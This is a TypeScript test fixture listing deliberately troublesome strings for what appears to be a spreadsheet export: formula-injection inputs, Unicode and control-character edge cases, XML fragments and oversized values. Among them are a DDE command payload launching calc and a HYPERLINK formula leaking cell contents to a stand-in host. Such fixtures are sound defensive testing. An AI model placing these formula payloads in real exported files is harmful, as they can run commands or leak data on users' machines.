import type { Brief } from '../../../lib/model/plan';

/** Names nobody should have, made up for these tests, and what tries to be a formula. */
const bell = String.fromCharCode(7);
const nul = String.fromCharCode(0);

export const formulas = [
  '=1+1',
  '+62 812 000',
  '-5000',
  '@SUM(A1:A9)',
  '=HYPERLINK("https://invalid.example/?"&A1,"open")',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  "'=1+1",
  "''=1+1",
  "'-",
  '\u202E=1+1',
  '\uFEFF=1+1',
  `${nul}=1+1`,
  `${bell}@SUM(A1)`,
] as const;

export const naughty = [
  ...formulas,
  'Serum "Malam", 30 ml; isi 2',
  'satu\r\ndua\rtiga\nempat',
  'a\u2028b\u2029c\u0085d',
  `nol${nul}tengah`,
  `pelan${bell}pelan`,
  'kanan \u202Eirik \u2066x\u2069 kiri',
  '\u200Fمرحبا',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'e\u0301\u0323\u0302 Đặng Thị Ánh',
  'ครีมกันแดดสูตรใหม่',
  'setengah \uD83D',
  '\uDC00 awal',
  'bukan huruf \uFFFE\uFFFF',
  '_x0041_ dan _x005F_ dan _x000D_',
  '#REF!',
  '#N/A',
  'TRUE',
  '0123',
  '1e5',
  '2026-04-01',
  '3/4',
  '</t></si><c><f>1+1</f></c>',
  '&amp; &#x41; ]]>',
  '  dua spasi  ',
  'a | b \\ c \\| d \\n e',
  '|',
  ' ',
  'x'.repeat(32_768),
  `${'y'.repeat(32_760)}👩‍👧${'z'.repeat(50)}`,
] as const;

/** A brief that says the same at every place; nothing where there is nothing to say. */
export function everywhere(text: string): Brief {
  const one = text.trim() === '' ? null : text;
  return { purpose: one, content: one, sample: one, fee: one, live: one, ads: one, stock: one };
}
